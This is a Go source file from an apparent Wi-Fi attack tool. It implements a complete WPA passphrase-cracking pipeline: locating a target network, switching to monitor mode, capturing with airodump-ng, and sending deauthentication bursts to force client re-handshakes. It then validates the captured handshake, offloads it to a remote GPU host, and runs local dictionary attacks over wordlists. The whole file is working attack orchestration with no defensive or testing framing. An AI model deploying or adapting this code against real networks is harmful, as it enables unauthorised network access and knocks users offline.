package attack

import (
	"context"
	"fmt"
	"log/slog"
	"os"
	"time"

	"github.com/jhye/pistorm/internal/capture"
	"github.com/jhye/pistorm/internal/config"
	"github.com/jhye/pistorm/internal/model"
	"github.com/jhye/pistorm/internal/wireless"
)

// Offloader pushes a capture file to the GPU host. Implemented by the
// gpu package; abstracted here so the pipeline is testable without SSH.
type Offloader interface {
	// Offload stages and transfers a capture file for the given target.
	Offload(ctx context.Context, capFile, target string) error
}

// sleep waits for d or until the context is cancelled.
func sleep(ctx context.Context, d time.Duration) error {
	timer := time.NewTimer(d)
	defer timer.Stop()
	select {
	case <-timer.C:
		return nil
	case <-ctx.Done():
		return ctx.Err()
	}
}

// LocateTargetStep scans for the target SSID to pin down its BSSID and
// channel. Not finding the target is not fatal: the capture step falls
// back to passive capture across the common channels.
type LocateTargetStep struct {
	mgr       *wireless.Manager
	scanIface string
	logger    *slog.Logger
}

// NewLocateTargetStep creates the locate step.
func NewLocateTargetStep(mgr *wireless.Manager, scanIface string, logger *slog.Logger) *LocateTargetStep {
	return &LocateTargetStep{mgr: mgr, scanIface: scanIface, logger: logger}
}

// Name returns the step name.
func (s *LocateTargetStep) Name() string { return "locate-target" }

// Do runs the locate scan.
func (s *LocateTargetStep) Do(ctx context.Context, t *Tracker) error {
	t.StepUpdate("Finding target network", 5, model.PhaseScanning, 0)

	// The scan device must be associated-capable; a leftover monitor
	// mode from a previous run would make iw scan fail.
	if err := s.mgr.SetManagedMode(ctx, s.scanIface); err != nil {
		return fmt.Errorf("prepare scan interface: %w", err)
	}

	target := t.Report().Target
	t.StepUpdate("Scanning for networks", 8, model.PhaseScanning, 50)

	nets, err := s.mgr.Scan(ctx, s.scanIface)
	if err != nil {
		s.logger.Warn("locate scan failed, proceeding without BSSID", "error", err)
		t.StepUpdate("Scan failed - passive capture", 15, model.PhaseScanning, 100)
		return nil
	}

	t.StepUpdate("Processing scan results", 10, model.PhaseScanning, 100)
	t.Mutate(func(r *model.AttackReport) { r.NetworksFound = len(nets) })

	for _, n := range nets {
		if n.SSID == target {
			t.Mutate(func(r *model.AttackReport) {
				r.TargetBSSID = n.BSSID
				r.Channel = n.Channel
			})
			t.StepUpdate("Target network located", 15, model.PhaseScanning, 100)
			s.logger.Info("target located", "ssid", target, "bssid", n.BSSID, "channel", n.Channel)
			return nil
		}
	}

	s.logger.Warn("target not in scan results", "ssid", target)
	t.StepUpdate("Target not found - passive capture", 15, model.PhaseScanning, 100)
	return nil
}

// CaptureStep runs the airodump-ng session and the deauth bursts that
// force clients to re-handshake into it.
type CaptureStep struct {
	mgr      *wireless.Manager
	store    *capture.Store
	cfg      *config.Config
	monIface string
	logger   *slog.Logger
}

// NewCaptureStep creates the capture step.
func NewCaptureStep(mgr *wireless.Manager, store *capture.Store, cfg *config.Config, monIface string, logger *slog.Logger) *CaptureStep {
	return &CaptureStep{mgr: mgr, store: store, cfg: cfg, monIface: monIface, logger: logger}
}

// Name returns the step name.
func (s *CaptureStep) Name() string { return "capture-handshake" }

// Do runs the capture.
func (s *CaptureStep) Do(ctx context.Context, t *Tracker) error {
	t.StepUpdate("Initializing handshake capture", 20, model.PhaseCapture, 0)

	if err := s.mgr.SetMonitorMode(ctx, s.monIface); err != nil {
		return fmt.Errorf("monitor mode: %w", err)
	}

	report := t.Report()
	base := s.store.BasePathFor(report.Target, time.Now())

	session, err := s.mgr.StartCapture(ctx, wireless.CaptureOptions{
		Interface:  s.monIface,
		OutputBase: base,
		Channel:    report.Channel,
		BSSID:      report.TargetBSSID,
	})
	if err != nil {
		return err
	}
	defer s.mgr.StopCapture(session) //nolint:errcheck

	// airodump-ng needs time to tune and open its output file before a
	// handshake can land in it.
	t.StepUpdate("Starting packet capture", 25, model.PhaseCapture, 25)
	if err := sleep(ctx, config.DefaultCaptureWarmup); err != nil {
		return err
	}

	if report.TargetBSSID != "" {
		t.StepUpdate("Forcing handshake capture", 30, model.PhaseCapture, 50)
		for round := 1; round <= s.cfg.DeauthRounds; round++ {
			s.logger.Info("deauth round", "round", round, "rounds", s.cfg.DeauthRounds)
			if err := s.mgr.Deauth(ctx, s.monIface, report.TargetBSSID, report.Channel, s.cfg.DeauthCount); err != nil {
				s.logger.Warn("deauth round failed", "round", round, "error", err)
			}
			if err := sleep(ctx, 5*time.Second); err != nil {
				return err
			}
		}
		t.StepUpdate("Deauth attack completed", 35, model.PhaseCapture, 75)
	} else {
		t.StepUpdate("Passive handshake capture", 30, model.PhaseCapture, 50)
		if err := sleep(ctx, config.DefaultPassiveCapture); err != nil {
			return err
		}
		t.StepUpdate("Passive capture completed", 35, model.PhaseCapture, 75)
	}

	// Let late handshake frames land before tearing the session down.
	t.StepUpdate("Finalizing capture", 37, model.PhaseCapture, 85)
	if err := sleep(ctx, config.DefaultCaptureSettle); err != nil {
		return err
	}

	if err := s.mgr.StopCapture(session); err != nil {
		s.logger.Warn("capture stop", "error", err)
	}

	capFile, err := wireless.FindCaptureFile(base)
	if err != nil {
		return err
	}

	if info, statErr := os.Stat(capFile); statErr == nil {
		s.logger.Info("capture file written", "file", capFile, "bytes", info.Size())
		if info.Size() < 1000 {
			// Likely a dead radio, but aircrack gets the final word.
			s.logger.Warn("capture file suspiciously small", "bytes", info.Size())
		}
	}

	t.Mutate(func(r *model.AttackReport) { r.CaptureFile = capFile })
	return nil
}

// ValidateStep checks the capture for a usable handshake with
// aircrack-ng and the in-process pcap analyzer. An absent handshake is
// recorded but not fatal; the dictionary attack sometimes succeeds on
// captures aircrack's summary undersells.
type ValidateStep struct {
	mgr    *wireless.Manager
	logger *slog.Logger
}

// NewValidateStep creates the validation step.
func NewValidateStep(mgr *wireless.Manager, logger *slog.Logger) *ValidateStep {
	return &ValidateStep{mgr: mgr, logger: logger}
}

// Name returns the step name.
func (s *ValidateStep) Name() string { return "validate-handshake" }

// Do runs the validation.
func (s *ValidateStep) Do(ctx context.Context, t *Tracker) error {
	t.StepUpdate("Validating handshake", 40, model.PhaseCapture, 90)

	report := t.Report()
	found, err := s.mgr.HasHandshake(ctx, report.CaptureFile, report.TargetBSSID)
	if err != nil {
		s.logger.Warn("handshake check failed", "error", err)
	}

	if analysis, analyzeErr := capture.Analyze(report.CaptureFile, report.TargetBSSID); analyzeErr == nil {
		s.logger.Info("capture analysis",
			"packets", analysis.TotalPackets,
			"eapol", analysis.EAPOLFrames,
			"pmkids", analysis.PMKIDs,
			"complete", analysis.Complete,
		)
		// The frame-level view is authoritative when aircrack was
		// inconclusive.
		if analysis.Complete {
			found = true
		}
	}

	s.logger.Info("encryption analysis", "result", s.mgr.AnalyzeEncryption(ctx, report.CaptureFile))

	t.Mutate(func(r *model.AttackReport) { r.HandshakeCaptured = found })
	t.StepUpdate("Handshake validation complete", 45, model.PhaseCapture, 100)

	if !found {
		s.logger.Warn("no handshake detected, continuing with dictionary attack")
	}
	return nil
}

// OffloadStep ships the capture to the GPU host and waits for its
// verdict. Disabled or failed offload falls through to local cracking.
type OffloadStep struct {
	offloader Offloader
	cfg       *config.Config
	logger    *slog.Logger
}

// NewOffloadStep creates the offload step.
func NewOffloadStep(offloader Offloader, cfg *config.Config, logger *slog.Logger) *OffloadStep {
	return &OffloadStep{offloader: offloader, cfg: cfg, logger: logger}
}

// Name returns the step name.
func (s *OffloadStep) Name() string { return "gpu-offload" }

// Do runs the offload.
func (s *OffloadStep) Do(ctx context.Context, t *Tracker) error {
	if s.offloader == nil || !s.cfg.GPU.Configured() {
		s.logger.Info("gpu offload disabled, cracking locally")
		return nil
	}

	report := t.Report()
	t.StepUpdate("Preparing for GPU host", 55, model.PhaseGPUReady, 25)

	if err := s.offloader.Offload(ctx, report.CaptureFile, report.Target); err != nil {
		s.logger.Error("gpu offload failed, falling back to local crack", "error", err)
		t.StepUpdate("GPU transfer failed - using local crack", 55, model.PhaseCracking, 0)
		return nil
	}

	t.Mutate(func(r *model.AttackReport) { r.GPUProcessing = true })
	t.StepUpdate("Waiting for GPU result", 60, model.PhaseGPUCracking, 50)

	wait := s.cfg.GPU.Wait.Std()
	if timeout := s.cfg.AttackTimeout.Std(); timeout < wait {
		wait = timeout
	}

	res, ok := t.AwaitGPUResult(ctx, wait)
	t.Mutate(func(r *model.AttackReport) { r.GPUProcessing = false })

	if ok && res.Found() {
		t.Mutate(func(r *model.AttackReport) { r.Result = res.Password })
		t.StepUpdate("GPU cracked the passphrase", 95, model.PhaseComplete, 100)
		return nil
	}

	t.StepUpdate("GPU timeout - using local crack", 70, model.PhaseCracking, 0)
	s.logger.Warn("no usable gpu result, falling back to local crack")
	return nil
}

// LocalCrackStep runs the on-device dictionary attack, a few wordlists
// under a per-list timeout. Skipped when the GPU already found the key.
type LocalCrackStep struct {
	mgr    *wireless.Manager
	cfg    *config.Config
	logger *slog.Logger
}

// NewLocalCrackStep creates the local cracking step.
func NewLocalCrackStep(mgr *wireless.Manager, cfg *config.Config, logger *slog.Logger) *LocalCrackStep {
	return &LocalCrackStep{mgr: mgr, cfg: cfg, logger: logger}
}

// Name returns the step name.
func (s *LocalCrackStep) Name() string { return "local-crack" }

// Do runs the dictionary attack.
func (s *LocalCrackStep) Do(ctx context.Context, t *Tracker) error {
	report := t.Report()
	if report.Succeeded() {
		return nil
	}

	t.StepUpdate("Preparing dictionary attack", 50, model.PhaseCracking, 0)

	wordlists := wireless.AvailableWordlists(s.cfg.WordlistDir)
	if len(wordlists) == 0 {
		return fmt.Errorf("no wordlists found under %s or the well-known paths", s.cfg.WordlistDir)
	}
	if len(wordlists) > config.DefaultMaxWordlists {
		wordlists = wordlists[:config.DefaultMaxWordlists]
	}

	for i, wl := range wordlists {
		baseProgress := 75 + i*8

		t.Mutate(func(r *model.AttackReport) { r.CurrentWordlist = wl.Name() })
		t.StepUpdate("Attacking with "+wl.Name(), baseProgress, model.PhaseCracking, 0)

		crackCtx, cancel := context.WithTimeout(ctx, config.DefaultWordlistTimeout)
		pwd, err := s.mgr.Crack(crackCtx, report.CaptureFile, wl.Path, report.TargetBSSID)
		cancel()

		if err != nil && ctx.Err() != nil {
			return ctx.Err()
		}
		if err != nil {
			s.logger.Warn("wordlist pass failed", "wordlist", wl.Name(), "error", err)
			continue
		}

		if pwd != "" {
			t.Mutate(func(r *model.AttackReport) {
				r.Result = pwd
				r.CurrentWordlist = ""
			})
			t.StepUpdate("Passphrase recovered", 95, model.PhaseComplete, 100)
			return nil
		}

		s.logger.Info("no match in wordlist", "wordlist", wl.Name())
		t.StepUpdate("No match in "+wl.Name(), baseProgress+7, model.PhaseCracking, 100)
	}

	t.Mutate(func(r *model.AttackReport) { r.CurrentWordlist = "" })
	return nil
}
